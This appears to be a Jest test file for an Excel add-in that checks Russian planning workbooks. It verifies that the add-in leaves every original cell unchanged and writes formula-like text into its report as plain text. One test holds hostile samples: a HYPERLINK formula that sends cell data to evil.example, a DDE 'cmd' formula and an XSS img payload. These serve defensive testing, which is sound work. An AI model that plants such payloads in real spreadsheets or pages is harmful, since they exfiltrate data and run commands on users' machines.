/**
 * The add-in never changes a value. On the in-memory Excel host, the pane's own flow (PaneStore
 * over OfficeWorkbook) checks a corpus roadmap workbook, highlights, clears, writes the report
 * sheet and gives a verdict; then every cell of every original sheet — value, formula, number
 * format, fill, font, hyperlink — every merged area and conditional format is compared with what it was.
 * Text from the sheets that looks like a formula or markup lands in the report as that text.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { checkSheet } from '../../src/core/check';
import { Grid } from '../../src/core/grid';
import { createMemoryHost, type MemoryHost } from '../../src/excel/memory-host';
import { HIGHLIGHT_COLORS, OfficeWorkbook, REPORT_SHEET } from '../../src/excel/office-workbook';
import { PaneStore } from '../../src/taskpane/state/pane-store';
import { CORPUS_DIR, loadWorkbook } from '../support/corpus';

const SEEDS = fs.readdirSync(path.join(CORPUS_DIR, 'seeds')).filter((f) => f.endsWith('.xlsx'));

/** Some cells get a fill, bold or a colour of their own first, so restoring them is put to the test. */
async function decorate(host: MemoryHost, sheet: string, addresses: string[]): Promise<void> {
  await host.Excel.run(async (context) => {
    const ws = context.workbook.worksheets.getItem(sheet);
    addresses.forEach((address, i) => {
      const range = ws.getRange(address);
      if (i % 3 === 0) range.format.fill.color = '#C6EFCE';
      if (i % 3 === 1) range.format.font.bold = true;
      if (i % 3 === 2) range.format.font.color = '#9C0006';
    });
    await context.sync();
  });
}

async function paneFlow(grids: Grid[]): Promise<{ host: MemoryHost; before: ReturnType<MemoryHost['snapshot']>; store: PaneStore }> {
  const host = createMemoryHost(grids);
  const workbook = new OfficeWorkbook({ excel: host.Excel });
  const store = new PaneStore({ port: workbook, language: 'ru', check: (grid, options) => checkSheet(grid, options) });
  store.start();
  // Cells that the check will flag get a format of their own before anything happens.
  const findings = grids.flatMap((g) => checkSheet(g).findings);
  for (const grid of grids) {
    const cells = findings.filter((f) => f.sheet === grid.name).slice(0, 12).map((f) => f.cell);
    if (cells.length) await decorate(host, grid.name, cells);
  }
  const before = host.snapshot();
  return { host, before, store };
}

describe.each(SEEDS)('%s', (seed) => {
  test('check, highlight, clear, report, verdict: every original cell and merge as it was', async () => {
    const grids = loadWorkbook(path.join(CORPUS_DIR, 'seeds', seed)).sheets;
    const { host, before, store } = await paneFlow(grids);

    await store.checkWorkbook();
    const state = store.getState();
    expect(state.error).toBeNull();
    expect(state.findings.length).toBeGreaterThan(0);

    await store.highlight();
    // The highlight did show (so clearing has something to undo)…
    const painted = host.sheetNames.some((sheet) => host.conditionalFormats(sheet).some((f) => Object.values(HIGHLIGHT_COLORS).includes(f.fill!)));
    expect(painted).toBe(true);
    await store.clearHighlight();
    await store.writeReport();
    await store.runVerdict();
    await store.idle();
    store.stop();
    expect(store.getState().error).toBeNull();

    const after = host.snapshot();
    // Only the report sheet is new; every original sheet is exactly what it was.
    expect(Object.keys(after).sort()).toEqual([...Object.keys(before), REPORT_SHEET].sort());
    for (const sheet of Object.keys(before)) expect({ sheet, ...after[sheet] }).toEqual({ sheet, ...before[sheet] });
  });
});

test('text that looks like a formula or markup reaches the report sheet as that text', async () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Подробнее")',
    '+7 (912) 000-00-00',
    '-По мере необходимости',
    '@SUM(1+1)',
    '<img src=x onerror="window.__pwned=1">',
    "=cmd|' /C calc'!A0",
  ];
  const grid = new Grid('=<b>План');
  grid.set(0, 0, { value: 'План мероприятий на 2023 год' });
  ['№ п/п', 'Наименование мероприятия', 'Срок исполнения', 'Ответственный', 'Ожидаемый результат'].forEach((h, c) => grid.set(2, c, { value: h }));
  hostile.forEach((text, i) => {
    const r = 3 + i;
    grid.set(r, 0, { value: i + 1 });
    grid.set(r, 1, { value: `Мероприятие ${i + 1}` });
    grid.set(r, 2, { value: text }); // no calendar anchor: deadline-vague, with the text as its value
    grid.set(r, 3, { value: 'все участники' });
    grid.set(r, 4, { value: text });
  });
  const { host, before, store } = await paneFlow([grid]);
  await store.checkWorkbook();
  await store.writeReport();
  await store.idle();
  store.stop();

  const report = host.snapshot()[REPORT_SHEET].cells;
  const valueCells = Object.entries(report).filter(([address]) => address.startsWith('G') && address !== 'G1'); // «Значение»
  for (const text of hostile) {
    const cells = valueCells.filter(([, c]) => c.value === text);
    expect(cells.length).toBeGreaterThan(0);
    for (const [, cell] of cells) {
      expect(cell.formula).toBeUndefined();
      expect(cell.format).toBe('@');
    }
  }
  // No cell of the report is a formula, and the sheet name is text too.
  expect(Object.values(report).filter((c) => c.formula !== undefined)).toEqual([]);
  expect(report.B2).toMatchObject({ value: '=<b>План', format: '@' });
  expect(host.snapshot()['=<b>План']).toEqual(before['=<b>План']);
});
